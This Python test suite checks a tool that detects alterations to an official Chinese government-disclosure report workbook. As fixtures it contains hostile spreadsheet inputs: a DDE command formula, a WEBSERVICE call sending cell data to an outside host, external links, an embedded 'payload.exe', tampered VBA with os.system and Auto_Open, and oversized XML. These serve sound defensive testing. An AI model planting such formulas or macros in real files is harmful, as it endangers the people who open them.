"""``gongkai template --check``: that it names every alteration exactly, and takes nobody's saving for one."""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import tempfile
import time
from pathlib import Path
from unittest import mock

import openpyxl
import pytest
from openpyxl.formatting.formatting import ConditionalFormattingList
from openpyxl.styles import Protection
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula
from typer.testing import CliRunner

import workbooks as w
from gongkai import macros, marking, summary, template
from gongkai.authenticity import check as genuine
from gongkai.authenticity import vba
from gongkai.authenticity.check import check
from gongkai.cli import app
from gongkai.edition import by_name
from gongkai.merge import merge
from gongkai.messages import CHECKED, UNREADABLE
from gongkai.ooxml import WorkbookError
from gongkai.reader import read
from gongkai.report import Unit
from gongkai.submission import assess, judge
from xlwings_addin import vba_project

TEMPLATES = w.ROOT / "templates"
ALL = [(edition, suffix) for edition in w.EDITIONS for suffix in ("xlsx", "xlsm")]
EACH = pytest.mark.parametrize(("edition", "suffix"), ALL)
TABLES, APPLICATIONS, DISPUTES = w.TABLES, w.APPLICATIONS, w.DISPUTES


def shipped(edition="2021", suffix="xlsx"):
    return (TEMPLATES / f"政府信息公开年报统计表-{edition}年版.{suffix}").read_bytes()


def saved(data, change=lambda _: None):
    """Return what openpyxl writes of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data), keep_vba=b"vbaProject.bin" in data)
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(data, changes):
    """Return a package with parts replaced or added: part → new bytes, or a function of the old ones."""
    parts = w.parts(data)
    made = {name: content(parts[name]) if callable(content) else content for name, content in changes.items()}
    return w.packed({**parts, **made})


def replaced(old, new):
    """Return a change of a part: one text for another."""

    def change(content):
        assert old.encode() in content, old
        return content.replace(old.encode(), new.encode())

    return change


def related(kind, target, *, external=False):
    """Return a change of a part of relationships: one more."""
    mode = ' TargetMode="External"' if external else ""
    return replaced(
        "</Relationships>",
        f'<Relationship Id="rX" Type="http://schemas.microsoft.com/office/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>',
    )


def told(data):
    return [(found.kind, found.sheet, found.cell, found.message) for found in check(data).alterations]


# --- no false alarm


def run(*arguments):
    outcome = CliRunner().invoke(app, ["template", *map(str, arguments)])
    if outcome.exception is not None and not isinstance(outcome.exception, SystemExit):
        raise outcome.exception
    return outcome


@EACH
def test_a_shipped_template_is_recognized_byte_for_byte(edition, suffix):
    name = f"政府信息公开年报统计表-{edition}年版.{suffix}"
    outcome = run("--check", TEMPLATES / name)
    digest = hashlib.sha256(shipped(edition, suffix)).hexdigest()
    assert outcome.exit_code == 0
    assert outcome.stdout == f"{TEMPLATES / name}：与官方模板“{name}”逐字节相同（SHA-256 {digest}）。\n"


def marked(data, *, propose):
    """Return what ``validate -d`` makes of a workbook, with something to propose for every finding."""
    reading = read(data)
    found = assess(reading)
    assert found
    with mock.patch.object(marking, "_proposal", return_value="把“3 件”改为 3"):
        made = marking.marked(data, found, {}, propose=propose)
    assert ("O4" in w.shown(made, marking.RESULT_SHEET)) is propose
    return made


def faulty(edition):
    """Return a filled workbook with a finding, in which every total is the sum of its parts."""
    report = w.clean(edition)
    return template.fill(by_name(edition), w.changed(report, {"licensing.administrative_licensing.decisions": "3 件"}))


FAITHFUL = {
    "blank": lambda edition: template.blank(by_name(edition), year=w.YEARS[edition]),
    "named": lambda edition: template.blank(
        by_name(edition), unit=Unit(name="=1+1", code="A1"), prior={item.index: 7 for item in by_name(edition).items}
    ),
    "filled": lambda edition: template.fill(by_name(edition), w.clean(edition)),
    "distinct": lambda edition: saved(shipped(edition), lambda book: fill_by_hand(book, edition)),
    "zero": lambda edition: template.fill(by_name(edition), w.of(edition, {}, Unit(name="局", zero_report="是"))),
    "marked": lambda edition: marked(faulty(edition), propose=False),
    "proposed": lambda edition: marked(faulty(edition), propose=True),
    "openpyxl": lambda edition: saved(shipped(edition)),
    "macros": lambda edition: template.blank(by_name(edition), year=2024, project=macros.shipped(by_name(edition))),
    "openpyxl-macros": lambda edition: saved(shipped(edition, "xlsm")),
}


def fill_by_hand(book, edition):
    for item in by_name(edition).items:
        if not item.derived:
            book[item.sheet][item.cell] = "=1+2" if item.index % 7 == 0 else "无" if item.index % 5 == 0 else item.index


@pytest.mark.parametrize("edition", w.EDITIONS)
@pytest.mark.parametrize("made", FAITHFUL)
def test_what_is_filled_in_is_no_alteration(made, edition):
    verdict = check(FAITHFUL[made](edition))
    assert (verdict.edition, verdict.template_version, verdict.identical) == (edition, "1", False)
    assert verdict.alterations == ()
    assert verdict.official.endswith(".xlsm" if "macros" in made else ".xlsx")


def shared(content):
    """Share the formulas of column K, as Excel does, and put sheets into quotes and a blank after each comma."""
    text = content.decode()
    first = re.search(r'<c r="K6"[^>]*><f>(.*?)</f>', text)[1]
    text = text.replace(f"<f>{first}</f>", f'<f t="shared" ref="K6:K19" si="0">{first}</f>', 1)
    text, count = re.subn(r'<f>CHOOSE\(M(?:[7-9]|1\d),"✓","待填","✗","✗"\)</f>', '<f t="shared" si="0"/>', text)
    assert count == 13
    text = re.sub(
        r"<f>[^<]*</f>", lambda f: f[0].replace("封面!", "'封面'!").replace(",", ", ").replace("SUM", "sum"), text
    )
    return text.encode()


def joined(content):
    """Join the ranges of rules that say the same, as Excel does."""
    text = content.decode()
    rules = re.findall(r"<dataValidation .*?</dataValidation>", text)
    groups = {}
    for rule in rules:
        groups.setdefault(re.sub('sqref="[^"]*"', 'sqref="{}"', rule), []).append(re.search('sqref="([^"]*)"', rule)[1])
    assert len(groups) < len(rules)
    text = text.replace("".join(rules), "".join(rule.format(" ".join(areas)) for rule, areas in groups.items()))
    blocks = re.findall(r'<conditionalFormatting sqref="[^"]*">.*?</conditionalFormatting>', text)
    unfit = {}
    for block in blocks:
        area, rules = re.match(r'<conditionalFormatting sqref="([^"]*)">(.*)</conditionalFormatting>', block).groups()
        row = re.match("[A-Z]+([0-9]+)", area)[1]
        unfit.setdefault(re.sub(rf"(?<=[A-Z]){row}(?!\d)|priority=\"\d+\"", "", rules), []).append((area, rules))
    assert len(unfit) < len(blocks)
    merged = "".join(
        f'<conditionalFormatting sqref="{" ".join(area for area, _ in same)}">{same[0][1]}</conditionalFormatting>'
        for same in unfit.values()
    )
    return text.replace("".join(blocks), merged).encode()


def test_formulas_that_are_shared_and_ranges_that_are_joined_are_the_same():
    part = "xl/worksheets/sheet3.xml"
    data = repacked(shipped(), {part: lambda content: joined(shared(content)), "xl/calcChain.xml": "<calcChain/>",
                                "xl/_rels/workbook.xml.rels": related("calcChain", "calcChain.xml")})  # fmt: skip
    assert check(data).alterations == ()
    # and what is shared is looked into
    wrong = repacked(data, {part: replaced('si="0">CHOOSE(M6', 'si="0">CHOOSE(1+M6')})
    assert [found[:3] for found in told(wrong)] == [("formula", APPLICATIONS, "K6:K19")]


SAVINGS = [
    ("2019", "xlsx", "Calc Office Open XML"),
    ("2021", "xlsx", "Calc MS Excel 2007 XML"),
    ("2021", "xlsm", "Calc MS Excel 2007 VBA XML"),
]


@pytest.mark.parametrize(("edition", "suffix", "filter_name"), SAVINGS)
def test_what_libreoffice_saves_is_no_alteration(office, tmp_path, edition, suffix, filter_name):
    source = w.put(tmp_path / f"a.{suffix}", faulty(edition) if suffix == "xlsx" else shipped(edition, suffix))
    with office.open(source) as document:
        document.type_values({(APPLICATIONS, "D6"): 12, ("封面", "C5"): "某局"})
        document.save(tmp_path / f"b.{suffix}", filter_name)
    verdict = check((tmp_path / f"b.{suffix}").read_bytes())
    assert (verdict.edition, verdict.official[-4:], verdict.identical) == (edition, suffix, False)
    assert verdict.alterations == ()


def test_macros_that_libreoffice_drops_are_missed(office, tmp_path):
    source = w.put(tmp_path / "a.xlsm", shipped("2021", "xlsm"))
    with office.open(source) as document:
        document.save(tmp_path / "b.xlsx", "Calc MS Excel 2007 XML")
    (found,) = check((tmp_path / "b.xlsx").read_bytes()).alterations
    assert (found.kind, found.message) == (
        "macro-missing", "“验证”按钮的宏没有了（通常是另存成了 .xlsx），按钮不能用；数据不受影响。",
    )  # fmt: skip


# --- alterations: what was done → kind, sheet, cell, sentence


def cell(sheet, place, value):
    def change(book):
        book[sheet][place] = value

    return change


def locks(sheet, area, locked):
    def change(book):
        for row in book[sheet][area]:
            for one in row:
                one.protection = Protection(locked=locked)

    return change


def all_totals(book):
    for row in range(6, 31):
        book[APPLICATIONS][f"J{row}"] = 12


def all_labels(book):
    for number, place in enumerate(("A5", "A6", "A9", "A12", "A13")):
        book[TABLES][place] = f"甲{number}"


def four_contents(book):
    for row in range(40, 44):
        book[APPLICATIONS][f"B{row}"] = 5


def four_links(book):
    for row in range(6, 10):
        book[APPLICATIONS][f"D{row}"] = f"=[1]表!A{row}"


def insert_row(book):
    """Insert a row as Excel does: formulas elsewhere follow."""
    book[APPLICATIONS].insert_rows(10)
    for row in book["上年数据"]["F5:H19"]:
        for one in row:
            if isinstance(one.value, str):
                one.value = one.value.replace("依申请公开!J30", "依申请公开!J31")


def rename(book):
    book[TABLES].title = "表二"
    for page in book:
        for row in page.iter_rows():
            for one in row:
                if isinstance(one.value, str) and one.value.startswith("="):
                    one.value = one.value.replace("主动公开!", "表二!")


def delete(book):
    del book["上年数据"]


def unguard(book):
    rules = book[APPLICATIONS].data_validations
    rules.dataValidation = [one for one in rules.dataValidation if not str(one.sqref).startswith(("D6:", "D7:"))]


def soften(book):
    next(one for one in book[TABLES].data_validations.dataValidation if str(one.sqref) == "B9").errorStyle = "warning"


def loosen(book):
    rules = book[DISPUTES].data_validations.dataValidation
    for one in rules:
        one.formula1 = "-5"


def unpaint(book):
    book[DISPUTES].conditional_formatting = ConditionalFormattingList()


def names(book):
    book.defined_names["gk_zero"].attr_text = "封面!$C$12"
    del book.defined_names["gk_year"]
    book.defined_names["甲"] = DefinedName("甲", attr_text="封面!$A$1")


def meta(book):
    book["_meta"]["B1"], book["_meta"]["B3"] = "2019", None


def state(sheet, value):
    def change(book):
        book[sheet].sheet_state = value

    return change


TOTAL = '=IF(COUNT(D6:I6)+IF(gk_zero="是",SUMPRODUCT(--ISBLANK(D6:I6)…'
ALTERED = {
    "a number for a formula": (cell(APPLICATIONS, "J6", 12), [
        ("formula", APPLICATIONS, "J6", f"依申请公开!J6 的公式应为 {TOTAL}，现为数字 12。")]),
    "another formula": (cell(APPLICATIONS, "J6", "=SUM(D6:H6)"), [
        ("formula", APPLICATIONS, "J6", f"依申请公开!J6 的公式应为 {TOTAL}，现为 =SUM(D6:H6)。")]),
    "a formula that differs at its end": (
        lambda book: cell(APPLICATIONS, "J6", book[APPLICATIONS]["J6"].value.replace("SUM(D6:I6)", "SUM(D6:H6)"))(book), [
        ("formula", APPLICATIONS, "J6",
         '依申请公开!J6 的公式应为 =…,"无"})),0)=6,SUM(D6:I6),"")，现为 =…,"无"})),0)=6,SUM(D6:H6),"")。')]),
    "no formula": (cell("_meta", "D1", None), [
        ("formula", "_meta", "D1", '_meta!D1 的公式应为 =COUNTIF(主动公开!E5:E6,"✗")+COUNTIF(主动公开!E9,"✗")+COUNTIF(主动公开!…，现为空白。')]),
    "many formulas": (all_totals, [
        ("formula", APPLICATIONS, "J6:J30", f"“依申请公开”有 25 格的公式被改动：J6:J30。例如 J6 应为 {TOTAL}，现为数字 12。")]),
    "a label": (cell(TABLES, "A5", "规 章"), [("label", TABLES, "A5", "主动公开!A5 应为“规章”，现为“规 章”。")]),
    "a label that is a formula": (cell(TABLES, "A5", '="规章"'), [
        ("label", TABLES, "A5", '主动公开!A5 应为“规章”，现为 ="规章"。')]),
    "many labels": (all_labels, [
        ("label", TABLES, "A5:A6、A9、A12:A13",
         "“主动公开”有 5 格的文字被改动：A5:A6、A9、A12:A13。例如 A5 应为“规章”，现为“甲0”。")]),
    "the number of a rule": (cell("上年数据", "A5", 2), [
        ("label", "上年数据", "A5", "上年数据!A5 应为数字 1，现为数字 2。")]),
    "content": (cell(APPLICATIONS, "B40", 5), [("content", APPLICATIONS, "B40", "依申请公开!B40 应为空白，现为数字 5。")]),
    "much content": (four_contents, [
        ("content", APPLICATIONS, "B40:B43", "“依申请公开”有 4 格应为空白，却有内容：B40:B43。例如 B40 是数字 5。")]),
    "content far away": (cell(TABLES, "ZZ5000", "甲"), [
        ("beyond", TABLES, "ZZ5000", "“主动公开”的表格以外很远处还有内容（ZZ5000）。")]),
    "a formula far away": (cell(TABLES, "ZZ5000", "=1"), [
        ("beyond", TABLES, "ZZ5000", "“主动公开”的表格以外很远处还有内容（ZZ5000）。")]),
    "a formula of many cells": (cell(APPLICATIONS, "J6", ArrayFormula("J6", "=SUM(D6:I6)")), [
        ("formula", APPLICATIONS, "J6", f"依申请公开!J6 的公式应为 {TOTAL}，现为 ={{SUM(D6:I6)}}。")]),
    "a formula that reaches out": (cell(APPLICATIONS, "D6", '=WEBSERVICE("http://x.cn/"&C6)'), [
        ("outside", APPLICATIONS, "D6",
         '依申请公开!D6 填的是 =WEBSERVICE("http://x.cn/"&C6)，会连到文件以外。请改填数字。')]),
    "a link to a page": (cell("封面", "C5", '=HYPERLINK("http://x.cn","某局")'), [
        ("outside", "封面", "C5", '封面!C5 填的是 =HYPERLINK("http://x.cn","某局")，会连到文件以外。请改填数字。')]),
    "DDE": (cell(APPLICATIONS, "D6", "=cmd|'/c calc'!A0"), [
        ("outside", APPLICATIONS, "D6", "依申请公开!D6 填的是 =cmd|'/c calc'!A0，会连到文件以外。请改填数字。")]),
    "formulas that look into another workbook": (four_links, [
        ("outside", APPLICATIONS, "D6:D9",
         "“依申请公开”有 4 格的公式会连到文件以外：D6:D9。例如 D6 是 =[1]表!A6。请改填数字。")]),
    "a link inside": (cell("封面", "C5", '=HYPERLINK("#封面!A1","某局 [1]")'), []),
    "locks taken off": (locks(APPLICATIONS, "A6:C9", locked=False), [
        ("unlocked", APPLICATIONS, "A6:A7、A8:B8、B9",
         "“依申请公开”有 5 格的锁定被取消，谁都能改写：A6:A7、A8:B8、B9。")]),
    "one lock taken off": (locks(TABLES, "A5:A5", locked=False), [
        ("unlocked", TABLES, "A5", "主动公开!A5 的锁定被取消，谁都能改写。")]),
    "an entry cell locked": (locks(TABLES, "B5:B5", locked=True), [
        ("locked", TABLES, "B5", "主动公开!B5 本来供填写，现在被锁定（常见于从别处整格粘贴）。")]),
    "a row inserted": (insert_row, [
        ("layout", APPLICATIONS, "B10",
         "“依申请公开”的行或列有增删、移动：“（三）不予公开”应在 B10，现在 B11。这张表没有再逐格核对。")]),
    "a sheet renamed": (rename, [("sheet-renamed", TABLES, None, "工作表“主动公开”被改名为“表二”。")]),
    "a sheet deleted": (delete, [("sheet-missing", None, None, "工作表“上年数据”没有了。")]),
    "a sheet added": (lambda book: book.create_sheet("备注"), [("sheet-added", "备注", None, "多出工作表“备注”。")]),
    "a hidden sheet added": (lambda book: setattr(book.create_sheet("备注"), "sheet_state", "veryHidden"), [
        ("sheet-added", "备注", None, "多出一张隐藏的工作表“备注”。")]),
    "a sheet hidden": (state("填报说明", "hidden"), [("sheet-hidden", "填报说明", None, "工作表“填报说明”被隐藏了。")]),
    "a sheet shown": (state("_meta", "visible"), [("sheet-shown", "_meta", None, "本来隐藏的工作表“_meta”被显示出来了。")]),
    "sheets in another order": (lambda book: book.move_sheet("_meta", -7), [
        ("sheet-order", None, None, ("工作表的顺序应为 封面、主动公开、依申请公开、复议诉讼、上年数据、验证结果、填报说明、_meta，"
         "现为 _meta、封面、主动公开、依申请公开、复议诉讼、上年数据、验证结果、填报说明。"))]),
    "validations removed": (unguard, [
        ("validation", APPLICATIONS, "D6:I7",
         "“依申请公开”有 12 格的录入限制（数据有效性）被去掉或改动（常见于从别处整格粘贴）：D6:I7。")]),
    "a validation that only warns": (soften, [
        ("validation", TABLES, "B9", "主动公开!B9 的录入限制（数据有效性）被去掉或改动（常见于从别处整格粘贴）。")]),
    "validations that allow more": (loosen, [
        ("validation", DISPUTES, "A6:D6、F6:I6、K6:N6",
         "“复议诉讼”有 12 格的录入限制（数据有效性）被去掉或改动（常见于从别处整格粘贴）：A6:D6、F6:I6、K6:N6。")]),
    "conditional formats removed": (unpaint, [
        ("condition", DISPUTES, "A6:P7", "“复议诉讼”有 32 格的标色规则（条件格式）被去掉或改动，有错时不会变色：A6:P7。")]),
    "protection removed": (lambda book: setattr(book[TABLES].protection, "sheet", False), [
        ("protection", TABLES, None, "“主动公开”的工作表保护被取消，公式和标题谁都能改写。")]),
    "a password": (lambda book: setattr(book[TABLES].protection, "password", "1"), [
        ("password", TABLES, None, "“主动公开”的工作表保护加了密码，官方模板没有密码。")]),
    "merged cells taken apart": (lambda book: book[DISPUTES].unmerge_cells("A3:E4"), [
        ("merged", DISPUTES, None, "“复议诉讼”的合并单元格有变：A3:E4。")]),
    "names": (names, [
        ("name", None, None, "名称“gk_year”被去掉或改动，现为空白。"),
        ("name", None, None, "名称“gk_zero”被去掉或改动，现为“封面!$C$12”。"),
        ("name-added", None, None, "多出名称 甲。")]),
    "another edition named": (meta, [
        ("meta", "_meta", "B1", "标明模板的“版本”应为“2021”，现为“2019”。"),
        ("meta", "_meta", "B3", "标明模板的“格式摘要”应为“52258d9c43f19b18”，现为空白。")]),
    "another version": (cell("_meta", "B2", "0"), [
        ("version", "_meta", "B2",
         "本文件标明的模板版本是“0”，本程序附的是“1”，不能逐格核对。请用 gongkai template 取得现行模板重新填报。")]),
    "no _meta": (lambda book: book.remove(book["_meta"]), [("sheet-missing", None, None, "工作表“_meta”没有了。")]),
}  # fmt: skip


@pytest.mark.parametrize("done", ALTERED)
def test_an_alteration_is_named(done):
    change, expected = ALTERED[done]
    assert told(saved(shipped(), change)) == expected


RELS, BOOK = "xl/_rels/workbook.xml.rels", "xl/workbook.xml"
ADDED = {
    "an external workbook": (
        {RELS: related("externalLink", "externalLinks/externalLink1.xml"),
         "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
         "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="x/externalLinkPath" Target="file:///\\\\10.0.0.1\\a.xlsx" TargetMode="External"/></Relationships>'},
        [("external", "文件里有 1 处连到外部：file:///\\\\10.0.0.1\\a.xlsx。"),
         ("addition", "文件里有官方模板没有的外部工作簿链接或 DDE。")]),
    "an embedded object": (
        {RELS: related("oleObject", "embeddings/oleObject1.bin"), "xl/embeddings/oleObject1.bin": b"\xd0\xcf"},
        [("addition", "文件里有官方模板没有的嵌入的对象。")]),
    "ActiveX": (
        {RELS: related("control", "activeX/activeX1.xml"), "xl/activeX/activeX1.xml": b"<a/>"},
        [("addition", "文件里有官方模板没有的ActiveX 控件。")]),
    "a ribbon": (
        {"_rels/.rels": related("extensibility", "customUI/customUI.xml"), "customUI/customUI.xml": b"<a/>"},
        [("addition", "文件里有官方模板没有的自定义功能区。")]),
    "a connection": (
        {RELS: related("connections", "connections.xml"), "xl/connections.xml": b"<a/>"},
        [("addition", "文件里有官方模板没有的数据连接。")]),
    "an Excel 4.0 macro sheet": (
        {RELS: related("xlMacrosheet", "macrosheets/sheet1.xml"), "xl/macrosheets/sheet1.xml": b"<a/>"},
        [("addition", "文件里有官方模板没有的Excel 4.0 宏表。")]),
    "what nobody has heard of": (
        {RELS: related("novelty", "x.xml"), "xl/x.xml": b"<a/>"}, [("addition", "文件里有官方模板没有的内容（novelty）。")]),
    "a part that nothing refers to": (
        {"xl/payload.exe": b"MZ"}, [("addition", "文件里有官方模板没有的夹带的内容（xl/payload.exe）。")]),
    "macros": (
        {RELS: related("vbaProject", "vbaProject.bin"), "xl/vbaProject.bin": b"x"},
        [("macro-added", "文件里有宏，官方的 .xlsx 模板不含宏。请不要启用宏，并查明文件来历。")]),
    "a page on the web": (
        {"xl/worksheets/_rels/sheet1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="x/hyperlink" Target="http://x.cn" TargetMode="External"/></Relationships>'},
        [("external", "文件里有 1 处连到外部：http://x.cn。")]),
}  # fmt: skip


@pytest.mark.parametrize("added", ADDED)
def test_what_came_along_is_named(added):
    changes, expected = ADDED[added]
    assert [(kind, message) for kind, _, _, message in told(repacked(shipped(), changes))] == expected


# --- macros


def with_macros(sources, sheets=8):
    return repacked(shipped("2021", "xlsm"), {"xl/vbaProject.bin": vba_project.build(sources, sheets)})


def official_sources():
    return vba_project.sources(vba_project.BUTTONS)


MACROS = {
    "the same in another spelling": (
        lambda s: {**s, "Gongkai": s["Gongkai"].replace("RunEntry", "runentry").replace("    ", "  ")}, []),
    "a module changed": (
        lambda s: {**s, "Gongkai": s["Gongkai"].replace("xlwings_addin.validate()", "os.system('calc')")},
        ["宏与官方的不同：模块 Gongkai。请不要启用宏，并查明文件来历。"]),
    "a text changed in case only": (
        lambda s: {**s, "Gongkai": s["Gongkai"].replace('"import xlwings_addin', '"IMPORT xlwings_addin')},
        ["宏与官方的不同：模块 Gongkai。请不要启用宏，并查明文件来历。"]),
    "a module added": (
        lambda s: {**s, "Payload": "Sub Auto_Open()\nEnd Sub\n"},
        ["宏与官方的不同：模块 Payload。请不要启用宏，并查明文件来历。"]),
    "a module missing": (
        lambda s: {"Gongkai": s["Gongkai"]}, ["宏与官方的不同：模块 xlwings。请不要启用宏，并查明文件来历。"]),
}  # fmt: skip


@pytest.mark.parametrize("done", MACROS)
def test_macros_are_compared_by_their_source(done):
    change, expected = MACROS[done]
    verdict = check(with_macros(change(official_sources())))
    assert [(found.kind, found.message) for found in verdict.alterations] == [("macro-changed", m) for m in expected]


def test_macros_that_are_gone_are_missed():
    assert told(w.edited(shipped("2021", "xlsm"), lambda _: None)) == [
        ("macro-missing", None, None, "“验证”按钮的宏没有了（通常是另存成了 .xlsx），按钮不能用；数据不受影响。")
    ]


def test_macros_that_cannot_be_read_are_told():
    for project in (b"", b"MZ", shipped("2021", "xlsm")[:3000]):
        (found,) = check(repacked(shipped("2021", "xlsm"), {"xl/vbaProject.bin": project or b"0"})).alterations
        assert (found.kind, found.message) == ("macro-unreadable", "宏的内容读不出来，无法核对。请不要启用宏。")


def test_another_macro_behind_the_button_is_told():
    for part, old, new in (
        ("xl/drawings/vmlDrawing1.vml", "[0]!Gongkai.ValidateReport", "[0]!Gongkai.Payload"),
        ("xl/worksheets/sheet1.xml", "<pageMargins", '<x macro="Payload"/><pageMargins'),
    ):
        (found,) = check(repacked(shipped("2021", "xlsm"), {part: replaced(old, new)})).alterations
        strange = "Gongkai.Payload" if "vml" in part else "Payload"
        assert found.message == f"有按钮或图形运行的不是官方的宏：{strange}。请不要点击，并查明文件来历。"
    hidden = shipped("2021", "xlsm")
    wide = lambda content: content.decode().replace("ValidateReport", "Payload").encode("utf-16")  # noqa: E731
    (found,) = check(repacked(hidden, {"xl/drawings/vmlDrawing1.vml": wide})).alterations
    assert found.message.startswith("有按钮或图形运行的不是官方的宏：Gongkai.Payload。")


# --- how it is told


def test_the_command_lists_what_was_altered(tmp_path):
    file = w.put(tmp_path / "报表.xlsx", saved(shipped(), cell(TABLES, "A5", "规矩")))
    outcome = run("--check", file)
    assert (outcome.exit_code, outcome.stdout) == (1, (
        f"{file}：与 2021 年版官方模板有 1 处不同：\n"
        "  主动公开!A5 应为“规章”，现为“规矩”。\n"
        "要用没有改动的模板，请运行 gongkai template 重新生成。\n"
    ))  # fmt: skip
    outcome = run("--check", file, "--format", "json")
    assert outcome.exit_code == 1
    assert json.loads(outcome.stdout) == {
        "file": str(file), "official": False, "identical": False, "edition": "2021", "template_version": "1",
        "compiled_macros": False,
        "alterations": [{"sheet": TABLES, "cell": "A5", "kind": "label", "expected": "规章", "found": "规矩",
                         "message": "主动公开!A5 应为“规章”，现为“规矩”。"}],
    }  # fmt: skip
    file = w.put(tmp_path / "好.xlsx", saved(shipped()))
    outcome = run("--check", file)
    assert (outcome.exit_code, outcome.stdout) == (
        0, f"{file}：是 2021 年版官方模板，除可填写的格子外没有改动（字体、颜色、行高列宽等外观不比较）。\n",
    )  # fmt: skip


def test_compiled_macros_are_told(monkeypatch):
    read = vba.read_project
    monkeypatch.setattr(vba, "read_project", lambda data: vba.Project(read(data).modules, compiled=True))
    verdict = check(with_macros(official_sources()))
    assert verdict.to_json("a")["compiled_macros"] is False  # byte for byte the official project: nothing to ask
    other = official_sources()
    verdict = check(with_macros({**other, "Gongkai": other["Gongkai"].replace("RunEntry", "runentry")}))
    assert verdict.alterations == ()
    assert verdict.to_json("a")["compiled_macros"] is True
    assert verdict.as_text("a").splitlines()[1] == (
        "  宏的源代码与官方的相同；文件里另有 Excel 编译过的代码，无法核对。来历不明的，请换用官方 .xlsm。"
    )


def region():
    """Return a summary."""
    with tempfile.TemporaryDirectory() as folder:
        return summary.workbook(merge([judge(w.put(Path(folder, "1.xlsx"), w.clean()))], "某区"))


REFUSED = {
    "gone": (None, UNREADABLE["missing"]),
    "empty": (b"", UNREADABLE["empty"]),
    "text": (b"hello", UNREADABLE["not-zip"]),
    "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), CHECKED["old"]),
    "cut": (shipped()[:9000], UNREADABLE["truncated"]),
    "no XML": (repacked(shipped(), {"xl/worksheets/sheet4.xml": b"<worksheet>"}), UNREADABLE["damaged"]),
    "somebody's own": (w.saved({"Sheet1": {(1, 1): "规章"}}), CHECKED["foreign"]),
    "a summary": (region(), CHECKED["summary"]),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_what_is_no_template_is_said(tmp_path, kind):
    data, message = REFUSED[kind]
    file = tmp_path / "文件.xlsx"
    if data is not None:
        file.write_bytes(data)
    for form in ("text", "json"):
        outcome = run("--check", file, "--format", form)
        assert (outcome.exit_code, outcome.stdout, outcome.stderr) == (2, "", f"{file}：{message}\n")


@pytest.mark.parametrize("spoilt", ["SHA256SUMS", "政府信息公开年报统计表-2021年版.xlsm"])
@pytest.mark.parametrize("gone", [True, False])
def test_a_kit_whose_own_templates_are_not_whole_judges_nothing(tmp_path, monkeypatch, spoilt, gone):
    folder = shutil.copytree(TEMPLATES, tmp_path / "templates")
    (folder / spoilt).unlink() if gone else (folder / spoilt).write_bytes((folder / spoilt).read_bytes()[1:])
    monkeypatch.setattr(genuine, "resource", lambda _: folder)
    monkeypatch.setattr(genuine, "officials", genuine.officials.__wrapped__)
    outcome = run("--check", TEMPLATES / "政府信息公开年报统计表-2021年版.xlsx")
    # Whoever cuts the sums has spoilt the first of them.
    name = "政府信息公开年报统计表-2019年版.xlsx" if spoilt == "SHA256SUMS" and not gone else spoilt
    assert (outcome.exit_code, outcome.stdout) == (2, "")
    assert outcome.stderr.endswith(f"：{CHECKED['kit'].format(name=name)}\n")


SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</worksheet>'
HOSTILE = {
    "four million ranges": '<sheetData/><conditionalFormatting sqref="{}"><cfRule><formula>1</formula></cfRule></conditionalFormatting>'.format("A1 " * 1_000_000),
    "many rules": "<sheetData/>"
    + '<conditionalFormatting sqref="A1"><cfRule><formula>1</formula></cfRule></conditionalFormatting>' * 2_100,
    "a long formula shared by everybody": '<sheetData><row r="1"><c r="A1"><f t="shared" si="0">{}</f></c>{}</row></sheetData>'.format(
        "A1+" * 20_000 + "A1", '<c><f t="shared" si="0"/></c>' * 60),
    "columns over columns": "<cols>" + '<col min="1" max="16384" style="1"/>' * 90_000 + "</cols><sheetData/>",
    "a sheet as large as ten thousand templates": "<sheetData>" + "<row/>" * 800_000 + "</sheetData>",
}  # fmt: skip


@pytest.mark.parametrize("made", HOSTILE)
def test_what_has_no_end_is_refused_before_it_costs_anything(made):
    data = repacked(shipped(), {"xl/worksheets/sheet4.xml": SHEET.format(HOSTILE[made]).encode()})
    genuine.officials()
    started = time.process_time()
    with pytest.raises(WorkbookError) as failure:
        check(data)
    assert failure.value.reason == "too-large"
    assert time.process_time() - started < 2


def test_a_thousand_parts_are_refused():
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    data = repacked(shipped(), {f"xl/_rels/{number}.rels": empty for number in range(1000)})
    with pytest.raises(WorkbookError) as failure:
        check(data)
    assert failure.value.reason == "too-large"
    with pytest.raises(WorkbookError) as failure:
        check(w.saved({f"表{number}": {(1, 1): 1} for number in range(100)}))
    assert failure.value.reason == "too-large"
    second = {"xl/other.bin": b"x", "xl/_rels/workbook.xml.rels": related("vbaProject", "other.bin")}
    with pytest.raises(WorkbookError) as failure:
        check(repacked(shipped("2021", "xlsm"), second))
    assert failure.value.reason == "too-large"


def test_each_option_knows_its_place(tmp_path):
    for arguments in (["--edition", "2021"], ["--year", "2024"], ["-o", "a.xlsx"], ["--macro"], ["-d", "x"]):
        outcome = run("--check", TEMPLATES / "x", *arguments)
        assert (outcome.exit_code, outcome.stdout) == (2, "")
        assert outcome.stderr == "--check 只核对一个文件，除 --format 外不能与其他选项同时使用。\n"
    outcome = run("--format", "json", "-o", tmp_path / "a.xlsx")
    assert (outcome.exit_code, outcome.stderr) == (2, "--format 与 --check 一起使用。\n")
    assert not any(tmp_path.iterdir())
